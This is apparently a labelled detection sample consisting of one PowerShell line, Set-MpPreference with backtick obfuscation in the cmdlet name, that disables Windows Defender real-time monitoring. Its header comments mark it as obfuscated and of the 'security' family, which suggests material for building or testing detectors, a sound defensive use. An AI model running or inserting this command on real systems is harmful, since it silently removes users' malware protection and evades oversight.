# description: Disables Defender real-time monitoring with backticks inside Set-MpPreference.
# family: security
# obfuscated: yes
Set-`M`p`Preference -DisableRealtimeMonitoring $true
